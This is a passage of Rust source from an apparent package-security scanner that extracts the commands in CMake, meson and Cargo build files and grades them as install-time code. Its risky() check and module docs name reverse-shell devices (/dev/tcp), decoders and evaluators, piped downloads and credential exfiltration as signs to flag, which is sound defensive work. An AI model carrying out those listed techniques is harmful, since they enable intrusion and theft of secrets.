//! Build files that a Python package's build runs: CMake's `CMakeLists.txt` and `*.cmake`
//! (scikit-build-core, `cmake` called from `setup.py`), meson's `meson.build` (meson-python) and
//! Cargo's `build.rs` (maturin, setuptools-rust). Building an sdist runs them on the installing
//! machine, as `setup.py` runs: the commands they start are install-time code.
//!
//! What is read, each bounded ([`MAX_TEXT`] bytes, [`MAX_COMMANDS`] commands, [`MAX_VARS`]
//! variables, values of at most [`MAX_VALUE`] bytes, [`MAX_TOTAL`] bytes of values and of
//! commands):
//! - CMake: the `COMMAND` argument lists of `execute_process` (runs while CMake configures; two
//!   or more `COMMAND`s are one pipeline, `a | b`), `add_custom_command`, `add_custom_target`
//!   and the `*_COMMAND`s of `ExternalProject_Add` (run while it builds), and `file(DOWNLOAD url
//!   file)` (without `EXPECTED_HASH`) when a command of the same file uses the downloaded file
//!   or `include()`s it (then it runs, as CMake code), `file(WRITE|APPEND)` of a
//!   `.pth` or `.py` (Python the build plants); `cmake_language(CALL execute_process …)` as the
//!   call it names, `cmake -E env … COMMAND` as COMMAND; `${NAME}` of variables the file sets
//!   (`set`, `list(APPEND)`, `string(CONCAT)`) and of `Python_EXECUTABLE` (`python3`) and
//!   `CMAKE_COMMAND` (`cmake`) expanded (CMake's reference pages);
//! - meson: the positional arguments of `run_command(...)` (runs while meson configures) and of
//!   `meson.add_install_script`, `add_postconf_script` and `add_dist_script`, and the `command:`
//!   arrays of `custom_target`, `run_target`, `configure_file` and `generator` (with its
//!   `arguments:`); variables assigned in the file (`name = …`, `name += …`, `'a' + 'b'`,
//!   `find_program('sh')`) read by their values (meson's reference manual);
//! - Cargo: `Command::new(P)` (also under a `use … Command as X` name) with the string
//!   arguments of the `.arg(...)` and `.args([...])` calls chained to it or made later on the
//!   same binding (`let mut c = Command::new(…); c.arg(…);`), string constants (`let`, `const`,
//!   `static`) read by their values (`std::process::Command`).
//!
//! Each command is written as the Python call that does the same (`subprocess.run([argv])`,
//! `urllib.request.urlretrieve(url, file)`, `open(path, 'w').write(text)`) at the build file's
//! own line, and the result is
//! judged by the Python analyser as install-time code ([`crate::formats::python::Role`]), so
//! a download piped into a shell, a credential file sent with `curl`, or a reverse shell are
//! graded as the same calls in a `setup.py` are, with one difference: build steps run shell
//! pipelines all the time, so a shell command that reaches nothing beyond the build (no
//! network client or URL, credential location, decoding or evaluation) is low. Variables
//! (`${X}`, `@0@`) are left as written.
//! A `Makefile` is not read: whether anything runs `make` is not in view.
//!
//! Cargo compiles more than `build.rs` into the build script it runs (tester t22 r09, r12,
//! r13): a custom path (`[package] build = "tools/gen.rs"`), the library of a path
//! `[build-dependencies]` crate (`helper = { path = "helper" }`: `helper/src/lib.rs`, whose
//! functions the build script calls), and files pulled in with `include!("f")` (code) and
//! `include_str!("f")` (a string). [`cargo_build_sources`] reads a manifest for the first two,
//! [`rust_includes`] and [`with_includes`] put the included files in place (one level, literal
//! paths only, the whole at most [`MAX_TEXT`] bytes), and the result is read as a `build.rs`.
//! Who has the files does the reading: the tar walk at its end for an sdist's members
//! (`tar.rs`, `Walk::cargo_scripts`), the check stage for a folder (`check/cargo_build.rs`).
//! Not followed: `[lib] path` of the dependency's own manifest, dependencies of dependencies,
//! `#[path]` modules, zip sdists. A crate's whole library is read, not only what the build
//! script calls: its commands are graded as a `build.rs`'s are, so ordinary ones (`rustc
//! --version`, `git`) stay low.

use std::collections::HashMap;

use crate::analyse::Ctx;
use crate::finding::{Location, Severity};

/// Largest build file read (bytes).
pub const MAX_TEXT: usize = 1 << 20;

/// Commands taken from one build file at most.
pub const MAX_COMMANDS: usize = 1024;

/// Tokens of one command at most.
const MAX_ARGS: usize = 256;

/// Which kind of build file a name is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// `CMakeLists.txt`, `*.cmake`.
    Cmake,
    /// `meson.build`.
    Meson,
    /// Cargo's `build.rs`.
    CargoBuild,
}

/// The kind of build file `name` (a path or member name; the base name decides) is.
pub fn kind(name: &str) -> Option<Kind> {
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    let lower = base.to_ascii_lowercase();
    if lower == "cmakelists.txt" || lower.ends_with(".cmake") {
        Some(Kind::Cmake)
    } else if lower == "meson.build" {
        Some(Kind::Meson)
    } else if base == "build.rs" {
        Some(Kind::CargoBuild)
    } else {
        None
    }
}

/// One command a build file runs: its line (1-based) and what it is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    /// A program and its arguments.
    Argv(usize, Vec<String>),
    /// A download of a URL into a file (`file(DOWNLOAD …)`).
    Download(usize, String, String),
    /// Text written into a file (`file(WRITE path text)`): path, text.
    Write(usize, String, String),
}

impl Command {
    /// The command's line (1-based).
    fn line(&self) -> usize {
        match self {
            Command::Argv(l, _) | Command::Download(l, _, _) | Command::Write(l, _, _) => *l,
        }
    }
}

/// Bytes of all variables' values, and of all commands, kept per build file at most.
/// The commands are analysed as a Python module: this keeps it (escapes included) well under
/// the Python analyser's own size bound.
const MAX_TOTAL: usize = 512 << 10;

thread_local! {
    /// The first bound that stopped the reading of the build file being read on this thread
    /// ([`commands`] clears it, [`analyse`] reports it): the scanners below are plain functions
    /// over the text, and this saves threading a collector through each of them.
    static STOPPED: std::cell::RefCell<Option<String>> = const { std::cell::RefCell::new(None) };
}

/// Note that `bound` stopped part of the reading (the first one is reported).
fn stopped(bound: String) {
    STOPPED.with(|s| {
        s.borrow_mut().get_or_insert(bound);
    });
}

/// The size of a command's text (bytes).
fn size(c: &Command) -> usize {
    match c {
        Command::Argv(_, argv) => argv.iter().map(String::len).sum(),
        Command::Download(_, a, b) | Command::Write(_, a, b) => a.len() + b.len(),
    }
}

/// The commands of a build file's text ([`MAX_COMMANDS`] at most, [`MAX_TOTAL`] bytes in all).
pub fn commands(text: &str, kind: Kind) -> Vec<Command> {
    STOPPED.with(|s| s.borrow_mut().take());
    // [`push`] keeps them within the bounds while they are built.
    let mut all = match kind {
        Kind::Cmake => cmake(text),
        Kind::Meson => meson(text),
        Kind::CargoBuild => cargo(text),
    };
    all.sort_by_key(Command::line);
    all
}

/// Push `c` unless the commands would pass [`MAX_TOTAL`] bytes (then the bound is noted): a
/// value copied into many arguments of many commands must not take the machine's memory.
fn push(out: &mut Vec<Command>, c: Command) {
    let total: usize = out.iter().map(size).sum::<usize>() + size(&c);
    if total > MAX_TOTAL || out.len() >= MAX_COMMANDS {
        stopped(format!(
            "{MAX_TOTAL} bytes or {MAX_COMMANDS} build commands"
        ));
    } else {
        out.push(c);
    }
}

/// The bound that stopped the last [`commands`] call on this thread, if any.
pub fn stopped_by() -> Option<String> {
    STOPPED.with(|s| s.borrow().clone())
}

/// Analyse a build file: its commands as install-time Python (module docs). Returns whether
/// any command was found.
pub fn analyse(ctx: &mut Ctx, data: &[u8], kind: Kind, loc: &Location, depth: u32) -> bool {
    if data.len() > MAX_TEXT {
        ctx.limit(
            loc,
            &format!("a build file larger than {MAX_TEXT} bytes"),
            "the commands it runs at build",
        );
        return false;
    }
    let text = String::from_utf8_lossy(data);
    let cmds = commands(&text, kind);
    if let Some(bound) = stopped_by() {
        ctx.limit(
            loc,
            &format!("build file: {bound}"),
            "the commands after it in the build file",
        );
    }
    if cmds.is_empty() {
        return false;
    }
    let program = as_python(&cmds);
    let mut scratch = Ctx::new(ctx.budget.limits);
    crate::formats::python::analyse_build_commands(&mut scratch, program.as_bytes(), loc, depth);
    let shell = crate::rules::python::python_shell_command::RULE.id;
    for mut f in scratch.findings {
        // Build steps run shell pipelines all the time (`sh -c "grep … | sort"`): a shell
        // command is graded by what it reaches, not for being a shell.
        if f.rule.id == shell && !risky(&f.evidence) {
            f.severity = f.severity.min(Severity::Low);
        }
        ctx.emit(f);
    }
    true
}

/// The shell that reads a script a package's code runs (`formats/python/join.rs`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shell {
    /// sh, bash, dash, zsh, ksh.
    Posix,
    /// PowerShell.
    PowerShell,
    /// cmd's batch files.
    Cmd,
}

/// The commands of a shell script: each logical line (continuations joined: `\` in a POSIX
/// shell, a backquote in PowerShell, `^` in cmd) that is not blank or a comment, as its shell
/// run on that line (`sh -c LINE`), so the Python analyser reads it as a command line
/// (pipelines, `sh -c`, redirections); at most [`MAX_COMMANDS`] and [`MAX_TOTAL`] bytes.
pub fn script_commands(text: &str, shell: Shell) -> Vec<Command> {
    STOPPED.with(|s| s.borrow_mut().take());
    let (program, flag, cont) = match shell {
        Shell::Posix => ("sh", "-c", '\\'),
        Shell::PowerShell => ("powershell", "-Command", '`'),
        Shell::Cmd => ("cmd", "/c", '^'),
    };
    let mut out = Vec::new();
    let mut logical = String::new();
    let mut start = 0;
    for (i, raw) in text.lines().enumerate() {
        if out.len() >= MAX_COMMANDS {
            stopped(format!("{MAX_COMMANDS} script lines"));
            break;
        }
        if logical.is_empty() {
            start = i + 1;
        }
        let line = raw.trim_end();
        if let Some(head) = line.strip_suffix(cont) {
            if logical.len() + head.len() <= MAX_VALUE {
                logical.push_str(head);
                logical.push(' ');
            }
            continue;
        }
        if logical.len() + line.len() <= MAX_VALUE {
            logical.push_str(line);
        }
        let cmd = std::mem::take(&mut logical);
        let t = cmd.trim();
        let lower = t.to_ascii_lowercase();
        let comment = t.starts_with('#')
            || (shell == Shell::Cmd
                && (t.starts_with("::") || lower.starts_with("rem ") || lower == "rem"));
        if t.is_empty() || comment {
            continue;
        }
        push(
            &mut out,
            Command::Argv(start, vec![program.into(), flag.into(), t.to_string()]),
        );
    }
    out
}

/// Analyse a shell script that code of `role` runs (a `setup.py`'s `bash scripts/post.sh`, a
/// module's `os.system('sh tools/x.md')`): its commands ([`script_commands`]) as Python calls of
/// that role, graded as a build file's are, so a command line that reaches nothing beyond the
/// machine ([`risky`]) is low. Findings in `ctx`, at the script's lines.
pub fn analyse_script(
    ctx: &mut Ctx,
    data: &[u8],
    shell: Shell,
    loc: &Location,
    role: crate::formats::python::Role,
) {
    if data.len() > MAX_TEXT {
        ctx.limit(
            loc,
            &format!("a script larger than {MAX_TEXT} bytes"),
            "the commands it runs",
        );
        return;
    }
    let text = String::from_utf8_lossy(data);
    let cmds = script_commands(&text, shell);
    if let Some(bound) = stopped_by() {
        ctx.limit(loc, &format!("script: {bound}"), "the commands after it");
    }
    if cmds.is_empty() {
        return;
    }
    // Whether each line reaches further than the machine, read on the line itself (the call
    // around it names the shell, `powershell`, which [`risky`] counts).
    let risky_lines: std::collections::HashSet<usize> = cmds
        .iter()
        .filter_map(|c| match c {
            Command::Argv(l, argv) if argv.last().is_some_and(|t| risky(t)) => Some(*l),
            _ => None,
        })
        .collect();
    let program = as_python(&cmds);
    let mut scratch = Ctx::new(ctx.budget.limits);
    crate::formats::python::analyse_commands_as(&mut scratch, program.as_bytes(), loc, role);
    let shell_rule = crate::rules::python::python_shell_command::RULE.id;
    for mut f in scratch.findings {
        let line = match f.location.span {
            Some(crate::finding::Span::Line { line }) => line as usize,
            _ => 0,
        };
        if f.rule.id == shell_rule && !risky_lines.contains(&line) {
            f.severity = f.severity.min(Severity::Low);
        }
        ctx.emit(f);
    }
}

/// Build scripts named elsewhere than `build.rs`, and build files to read more than once, per
/// package (archive or folder) at most.
pub const MAX_CARGO_SOURCES: usize = 16;

/// The files a Cargo package compiles into its build script besides a `build.rs` beside its
/// manifest (read by name): `[package] build = "PATH"` (Cargo's custom build-script path) and
/// the library of each `[build-dependencies]` crate given by `path` (`PATH/src/lib.rs`; Cargo
/// builds it for the build script, which calls it). `manifest` is the `Cargo.toml`'s path or
/// member name (`/`-separated); the files are returned as paths beside it, normalised (a path
/// that leaves the package's root is dropped), at most [`MAX_CARGO_SOURCES`].
pub fn cargo_build_sources(manifest: &str, text: &str) -> Vec<String> {
    let Ok(doc) = text.parse::<toml::Table>() else {
        return Vec::new();
    };
    let dir = manifest.rsplit_once('/').map_or("", |(d, _)| d);
    let mut rel: Vec<String> = Vec::new();
    if let Some(b) = doc
        .get("package")
        .and_then(|p| p.get("build"))
        .and_then(|b| b.as_str())
    {
        rel.push(b.to_string());
    }
    if let Some(deps) = doc.get("build-dependencies").and_then(|d| d.as_table()) {
        for dep in deps.values().take(MAX_CARGO_SOURCES) {
            if let Some(path) = dep.get("path").and_then(|v| v.as_str()) {
                rel.push(format!("{}/src/lib.rs", path.trim_end_matches(['/', '\\'])));
            }
        }
    }
    let mut out = Vec::new();
    for r in rel {
        let Some(p) = crate::formats::zip::normalise_member(&format!("{dir}/{r}")) else {
            continue;
        };
        // `build.rs` beside the manifest is read by its name already.
        if kind(&p) != Some(Kind::CargoBuild) && !out.contains(&p) && out.len() < MAX_CARGO_SOURCES
        {
            out.push(p);
        }
    }
    out
}

/// The files a Rust build file pulls in with `include!("f")` and `include_str!("f")`, at most
/// [`MAX_CARGO_SOURCES`]: (the macro's byte range, the path beside `file` it names, whether the
/// text is Rust code rather than a string). Only literal paths; `concat!(env!("OUT_DIR"), …)`
/// names generated files, which are not in the artifact.
pub fn rust_includes(file: &str, text: &str) -> Vec<(std::ops::Range<usize>, String, bool)> {
    let dir = file.rsplit_once('/').map_or("", |(d, _)| d);
    let mut out = Vec::new();
    for (mac, code) in [("include_str!", false), ("include!", true)] {
        let mut from = 0;
        while let Some(i) = sl(text, from, text.len()).find(mac) {
            let at = from + i;
            from = at + mac.len();
            if out.len() >= MAX_CARGO_SOURCES {
                break;
            }
            // Whole macro names only (`my_include!` is another macro).
            if at > 0 && {
                let p = text.as_bytes()[at - 1];
                p.is_ascii_alphanumeric() || p == b'_'
            } {
                continue;
            }
            let rest = sl(text, from, from + 4096);
            let open = rest.len() - rest.trim_start().len();
            if !rest[open..].starts_with('(') {
                continue;
            }
            let q = from + open + 1;
            let q =
                q + (sl(text, q, text.len()).len() - sl(text, q, text.len()).trim_start().len());
            // A path closes within 1 KiB: many unterminated `include!("` must not each read
            // 64 KiB on.
            let Some((path, after)) = rust_string(sl(text, 0, q + 1024), q) else {
                continue;
            };
            let close = after
                + (sl(text, after, text.len()).len()
                    - sl(text, after, text.len()).trim_start().len());
            if text.as_bytes().get(close) != Some(&b')') {
                continue;
            }
            if let Some(p) = crate::formats::zip::normalise_member(&format!("{dir}/{path}")) {
                out.push((at..close + 1, p, code));
            }
        }
    }
    out.sort_by_key(|(r, _, _)| r.start);
    out
}

/// Analyse the Cargo build-script source `full` (its includes in place, [`with_includes`]) at
/// `loc` on a budget of its own (`limits`), and return the findings `given` does not already
/// hold (the same rule, location and evidence: what the first reading of a `build.rs` gave).
/// Used by the tar walk's end and by the check stage for folders.
pub fn reanalyse_cargo(
    full: &str,
    loc: &Location,
    depth: u32,
    limits: crate::analyse::BudgetLimits,
    given: &[crate::finding::Finding],
) -> Vec<crate::finding::Finding> {
    let mut scratch = Ctx::new(limits);
    analyse(&mut scratch, full.as_bytes(), Kind::CargoBuild, loc, depth);
    scratch
        .findings
        .into_iter()
        .filter(|f| {
            !given.iter().any(|g| {
                g.rule.id == f.rule.id && g.location == f.location && g.evidence == f.evidence
            })
        })
        .collect()
}

/// A build script's text with its `include!`/`include_str!` macros ([`rust_includes`]) replaced
/// by what they compile to: the named file's text as code, or as a string literal. `read`
/// gives a file's bytes (`None`: not in the artifact, and the macro is left as written). One
/// level: the included files' own includes are not followed.
pub fn with_includes(file: &str, text: &str, read: &dyn Fn(&str) -> Option<Vec<u8>>) -> String {
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    let mut added = 0usize;
    for (range, path, code) in rust_includes(file, text) {
        let Some(bytes) = read(&path) else {
            continue;
        };
        let body = String::from_utf8_lossy(&bytes);
        // The whole stays a build file [`analyse`] reads; an include past that is left as
        // written.
        if text.len() + added + body.len() > MAX_TEXT {
            break;
        }
        added += body.len();
        out.push_str(&text[last..range.start]);
        if code {
            out.push_str(&body);
        } else {
            // A raw string with more `#`s than the text holds in a row, so it closes where
            // the text ends.
            let hashes = "#".repeat(longest_run(&body, '#') + 1);
            out.push_str(&format!("r{hashes}\"{body}\"{hashes}"));
        }
        last = range.end;
    }
    out.push_str(&text[last..]);
    out
}

/// The longest run of `c` in `s`.
fn longest_run(s: &str, c: char) -> usize {
    let (mut best, mut run) = (0, 0);
    for x in s.chars() {
        run = if x == c { run + 1 } else { 0 };
        best = best.max(run);
    }
    best
}

/// Whether a build command reaches further than the build: a network client or URL, a
/// credential location, decoded or evaluated text, or a reverse-shell device.
fn risky(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    // Programs, compared as whole words (a path's last part: `/usr/bin/curl`): the network
    // clients conda's activation hooks are judged by, and decoders and evaluators.
    let programs = ["rsync", "base64", "eval", "powershell", "pwsh", "iex"];
    let words = lower
        .split(|c: char| c.is_whitespace() || "|;&()'\"`".contains(c))
        .map(|w| {
            w.rsplit(['/', '\\'])
                .next()
                .unwrap_or(w)
                .trim_end_matches(".exe")
        });
    let texts = [
        "http://",
        "https://",
        "ftp://",
        "/dev/tcp",
        "/dev/udp",
        "python -c",
        "python3 -c",
    ];
    words
        .take(4096)
        .any(|w| programs.contains(&w) || crate::formats::pypkg::NETWORK_PROGRAMS.contains(&w))
        || texts.iter().any(|t| lower.contains(t))
        || crate::formats::python::credential_in(command).is_some()
}

/// The commands as a Python module whose calls sit at the build file's lines.
fn as_python(cmds: &[Command]) -> String {
    // The import shares the first line, so a command on line 1 keeps its line.
    let mut out = String::from("import subprocess, urllib.request; ");
    let mut line = 1;
    for c in cmds {
        let at = c.line();
        while line < at {
            out.push('\n');
            line += 1;
        }
        match c {
            Command::Argv(_, argv) => {
                let items: Vec<String> = argv.iter().map(|a| py_str(a)).collect();
                out.push_str(&format!("subprocess.run([{}]); ", items.join(", ")));
            }
            Command::Download(_, url, file) => out.push_str(&format!(
                "urllib.request.urlretrieve({}, {}); ",
                py_str(url),
                py_str(file)
            )),
            Command::Write(_, path, text) => out.push_str(&format!(
                "open({}, 'w').write({}); ",
                py_str(path),
                py_str(text)
            )),
        }
    }
    out.push('\n');
    out
}

/// A Python string literal holding `s`.
fn py_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// `text[from..to]`, with `from` moved forward and `to` back to character boundaries: the
/// scanners here step through bytes, and a hostile file puts multibyte characters anywhere.
fn sl(text: &str, from: usize, to: usize) -> &str {
    let mut to = to.min(text.len());
    while !text.is_char_boundary(to) {
        to -= 1;
    }
    let mut from = from.min(to);
    while !text.is_char_boundary(from) {
        from += 1;
    }
    &text[from..to]
}

/// The value of a string literal whose body starts at `from` and ends before `close` (`"`,
/// `'`, `'''`), read at most to `end`: with `escapes`, a backslash takes the next character as
/// itself (`\n` and `\t` as a newline and a tab), and a backslash before a line break joins
/// the next line without its leading white space (CMake, meson and Rust string escapes).
/// Returns the value and the offset after the closing quote (`end` when there is none).
fn quoted(text: &str, from: usize, end: usize, close: &str, escapes: bool) -> (String, usize) {
    let b = text.as_bytes();
    let end = end.min(b.len());
    let mut j = from;
    let mut s = String::new();
    while j < end && !sl(text, j, end).starts_with(close) {
        if escapes && b[j] == b'\\' && j + 1 < end {
            j += 1;
            match b[j] {
                b'n' => s.push('\n'),
                b't' => s.push('\t'),
                b'\n' => {
                    while j + 1 < end && b[j + 1].is_ascii_whitespace() {
                        j += 1;
                    }
                }
                _ => {
                    let ch = sl(text, j, end).chars().next().unwrap_or(' ');
                    s.push(ch);
                    j += ch.len_utf8() - 1;
                }
            }
            j += 1;
            continue;
        }
        let ch = sl(text, j, end).chars().next().unwrap_or(' ');
        s.push(ch);
        j += ch.len_utf8();
    }
    (s, (j + close.len()).min(end.max(j)))
}

/// 1-based line of byte offset `at` in `text`.
fn line_at(text: &str, at: usize) -> usize {
    text.as_bytes()[..at.min(text.len())]
        .iter()
        .filter(|&&b| b == b'\n')
        .count()
        + 1
}

/// Offsets just after each case-insensitive `name(` (the name starting a word), in order.
fn calls(text: &str, name: &str) -> Vec<usize> {
    let lower = text.to_ascii_lowercase();
    let bytes = lower.as_bytes();
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(i) = lower[from..].find(name) {
        let at = from + i;
        from = at + name.len();
        let word_start =
            at == 0 || !(bytes[at - 1].is_ascii_alphanumeric() || bytes[at - 1] == b'_');
        let rest = lower[from..].trim_start_matches([' ', '\t']);
        // After a `#` on its line: a comment in CMake and meson (a `#` inside a string on the
        // same line is rare in a build file and only hides that call).
        let line_start = lower[..at].rfind('\n').map_or(0, |n| n + 1);
        let commented = lower[line_start..at].contains('#');
        if word_start && !commented && rest.starts_with('(') {
            if out.len() >= MAX_CALLS {
                stopped(format!("more than {MAX_CALLS} `{name}(` calls"));
                break;
            }
            out.push(lower.len() - rest.len() + 1);
        }
    }
    out
}

/// Calls of one function read per build file at most.
const MAX_CALLS: usize = 1024;

/// CMake arguments from `start` (just after `(`) to the matching `)`: quoted arguments
/// unescaped, bracket arguments as written, unquoted ones split on white space; comments
/// dropped.
fn cmake_args(text: &str, start: usize) -> Vec<String> {
    let b = text.as_bytes();
    let mut i = start;
    let mut depth = 0usize;
    let mut args = Vec::new();
    let end = (start + 64 * 1024).min(b.len());
    // A bracket argument or comment (`[[…]]`, `[=[…]=]`, `#[[…]]`) at `j`: its body's range and
    // the offset after it.
    let bracket = |j: usize| -> Option<(usize, usize, usize)> {
        let rest = b.get(j..end)?;
        let eq = rest.iter().skip(1).take_while(|&&c| c == b'=').count();
        if rest.first() != Some(&b'[') || rest.get(1 + eq) != Some(&b'[') {
            return None;
        }
        let close = format!("]{}]", "=".repeat(eq));
        let body = j + 2 + eq;
        let stop = sl(text, body, end).find(&close).map(|k| body + k)?;
        Some((body, stop, stop + close.len()))
    };
    let mut closed = false;
    while i < end && args.len() < MAX_ARGS * 4 {
        // A bracket argument opening here, looked for once.
        let opened = if b[i] == b'[' { bracket(i) } else { None };
        match b[i] {
            b')' if depth == 0 => {
                closed = true;
                break;
            }
            b')' => {
                depth -= 1;
                i += 1;
            }
            b'(' => {
                depth += 1;
                i += 1;
            }
            b'#' => match bracket(i + 1) {
                Some((_, _, after)) => i = after,
                None => {
                    while i < end && b[i] != b'\n' {
                        i += 1;
                    }
                }
            },
            b'[' if opened.is_some() => {
                if let Some((body, stop, after)) = opened {
                    args.push(sl(text, body, stop).to_string());
                    i = after;
                }
            }
            b'"' => {
                let (s, after) = quoted(text, i + 1, end, "\"", true);
                i = after;
                args.push(s);
            }
            c if c.is_ascii_whitespace() => i += 1,
            _ => {
                let s0 = i;
                while i < end
                    && !b[i].is_ascii_whitespace()
                    && !matches!(b[i], b'(' | b')' | b'"' | b'#')
                {
                    i += 1;
                }
                args.push(sl(text, s0, i).to_string());
            }
        }
    }
    if !closed && i >= end && end < b.len() {
        stopped("a call longer than 64 KiB".to_string());
    }
    args
}

/// Keywords that end a `COMMAND` list of `execute_process`, `add_custom_command` and
/// `add_custom_target`.
const CMAKE_KEYWORDS: &[&str] = &[
    "COMMAND",
    "WORKING_DIRECTORY",
    "TIMEOUT",
    "RESULT_VARIABLE",
    "RESULTS_VARIABLE",
    "OUTPUT_VARIABLE",
    "ERROR_VARIABLE",
    "INPUT_FILE",
    "OUTPUT_FILE",
    "ERROR_FILE",
    "OUTPUT_QUIET",
    "ERROR_QUIET",
    "COMMAND_ECHO",
    "OUTPUT_STRIP_TRAILING_WHITESPACE",
    "ERROR_STRIP_TRAILING_WHITESPACE",
    "ENCODING",
    "ECHO_OUTPUT_VARIABLE",
    "ECHO_ERROR_VARIABLE",
    "COMMAND_ERROR_IS_FATAL",
    "OUTPUT",
    "DEPENDS",
    "BYPRODUCTS",
    "COMMENT",
    "VERBATIM",
    "USES_TERMINAL",
    "ALL",
    "SOURCES",
    "MAIN_DEPENDENCY",
    "IMPLICIT_DEPENDS",
    "DEPFILE",
    "JOB_POOL",
    "JOB_SERVER_AWARE",
    "COMMAND_EXPAND_LISTS",
    "APPEND",
    "TARGET",
    "PRE_BUILD",
    "PRE_LINK",
    "POST_BUILD",
    "CODEGEN",
];

/// Variables a CMake file sets (`set(NAME v…)`, `list(APPEND NAME v…)`, `string(CONCAT NAME
/// a b…)`), each as its list of values with the variables already known expanded; in the order
/// of the file, at most [`MAX_VARS`].
fn cmake_vars(text: &str) -> HashMap<String, Vec<String>> {
    let mut starts: Vec<(usize, &str)> = ["set", "list", "string"]
        .iter()
        .flat_map(|n| calls(text, n).into_iter().map(move |s| (s, *n)))
        .collect();
    starts.sort_unstable();
    // The interpreter and CMake itself, as FindPython and CMake name them.
    let mut vars: HashMap<String, Vec<String>> = [
        "Python_EXECUTABLE",
        "Python3_EXECUTABLE",
        "PYTHON_EXECUTABLE",
        "PYTHON3_EXECUTABLE",
    ]
    .iter()
    .map(|v| (v.to_string(), vec!["python3".to_string()]))
    .chain(std::iter::once((
        "CMAKE_COMMAND".to_string(),
        vec!["cmake".to_string()],
    )))
    .collect();
    let mut total = 0usize;
    for (start, name) in starts {
        if vars.len() >= MAX_VARS {
            break;
        }
        let args = cmake_args(text, start);
        let (var, values): (&str, Vec<String>) = match (name, args.as_slice()) {
            ("set", [v, rest @ ..]) => {
                let end = rest
                    .iter()
                    .position(|a| a == "CACHE" || a == "PARENT_SCOPE")
                    .unwrap_or(rest.len());
                (v, expand(&rest[..end], &vars))
            }
            ("list", [op, v, rest @ ..]) if op == "APPEND" => {
                let mut all = vars.get(v.as_str()).cloned().unwrap_or_default();
                all.extend(expand(rest, &vars));
                (v, all)
            }
            ("string", [op, v, rest @ ..]) if op == "CONCAT" => {
                (v, vec![cap(expand(rest, &vars).concat())])
            }
            _ => continue,
        };
        let mut values = values;
        values.truncate(MAX_ARGS);
        total += values.iter().map(String::len).sum::<usize>();
        if total > MAX_TOTAL {
            break;
        }
        vars.insert(var.to_string(), values);
    }
    vars
}

/// Variables kept per build file at most.
const MAX_VARS: usize = 1024;

/// Bytes of one value at most: a variable doubled on every line (`s = s + s`, `set(A ${A}${A})`)
/// stops growing here.
const MAX_VALUE: usize = 16 * 1024;

/// `s` cut to [`MAX_VALUE`] bytes (at a character boundary).
fn cap(mut s: String) -> String {
    if s.len() > MAX_VALUE {
        let mut at = MAX_VALUE;
        while !s.is_char_boundary(at) {
            at -= 1;
        }
        s.truncate(at);
    }
    s
}

/// CMake arguments with `${NAME}` of known variables expanded: an argument that is only the
/// reference becomes the variable's values, a reference inside text its values joined by `;`.
fn expand(args: &[String], vars: &HashMap<String, Vec<String>>) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut bytes = 0usize;
    for a in args {
        if let Some(v) = a
            .strip_prefix("${")
            .and_then(|r| r.strip_suffix('}'))
            .and_then(|n| vars.get(n))
        {
            bytes += v.iter().map(String::len).sum::<usize>();
            out.extend(v.iter().cloned());
            if out.len() >= MAX_ARGS * 4 || bytes > MAX_TOTAL {
                break;
            }
            continue;
        }
        let mut t = a.clone();
        for _ in 0..4 {
            let Some(i) = t.find("${") else { break };
            let Some(j) = t[i..].find('}').map(|j| i + j) else {
                break;
            };
            match vars.get(&t[i + 2..j]) {
                Some(v) => t = cap(format!("{}{}{}", &t[..i], v.join(";"), &t[j + 1..])),
                None => break,
            }
        }
        bytes += t.len();
        out.push(t);
        if out.len() >= MAX_ARGS * 4 || bytes > MAX_TOTAL {
            break;
        }
    }
    out
}

/// One shell word: quoted when it holds white space or shell syntax.
fn shell_word(a: &str) -> String {
    if !a.is_empty()
        && a.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./=:@%+,${}".contains(c))
    {
        a.to_string()
    } else {
        format!("'{}'", a.replace('\'', "'\\''"))
    }
}

/// `ExternalProject_Add` keywords whose value is a command line run while it builds.
const EXTERNAL_COMMANDS: &[&str] = &[
    "DOWNLOAD_COMMAND",
    "UPDATE_COMMAND",
    "PATCH_COMMAND",
    "CONFIGURE_COMMAND",
    "BUILD_COMMAND",
    "INSTALL_COMMAND",
    "TEST_COMMAND",
];

/// `cmake -E env [NAME=VALUE…] [--unset=NAME…] [--] COMMAND…` runs COMMAND: the command.
fn without_cmake_env(argv: Vec<String>) -> Vec<String> {
    let base = argv.first().map(|a| {
        a.rsplit(['/', '\\'])
            .next()
            .unwrap_or(a)
            .to_ascii_lowercase()
    });
    if !(base
        .as_deref()
        .is_some_and(|b| b == "cmake" || b == "cmake.exe")
        && argv.get(1).is_some_and(|a| a == "-E")
        && argv.get(2).is_some_and(|a| a == "env"))
    {
        return argv;
    }
    argv.into_iter()
        .skip(3)
        .skip_while(|a| a.contains('=') && !a.starts_with('/') || a.starts_with("--"))
        .collect()
}

fn cmake(text: &str) -> Vec<Command> {
    let vars = cmake_vars(text);
    let mut out = Vec::new();
    // `cmake_language(CALL execute_process …)` is the call it names.
    let indirect: Vec<(usize, Vec<String>)> = calls(text, "cmake_language")
        .into_iter()
        .filter_map(|start| {
            let args = cmake_args(text, start);
            match args.as_slice() {
                [call, f, rest @ ..]
                    if call == "CALL"
                        && matches!(
                            f.to_ascii_lowercase().as_str(),
                            "execute_process" | "add_custom_command" | "add_custom_target"
                        ) =>
                {
                    Some((start, rest.to_vec()))
                }
                _ => None,
            }
        })
        .collect();
    let direct = [
        "execute_process",
        "add_custom_command",
        "add_custom_target",
        "externalproject_add",
    ]
    .iter()
    .flat_map(|name| {
        calls(text, name)
            .into_iter()
            .map(move |start| (*name, start, cmake_args(text, start)))
    });
    let all: Vec<(&str, usize, Vec<String>)> = direct
        .chain(
            indirect
                .into_iter()
                .map(|(start, args)| ("execute_process", start, args)),
        )
        .collect();
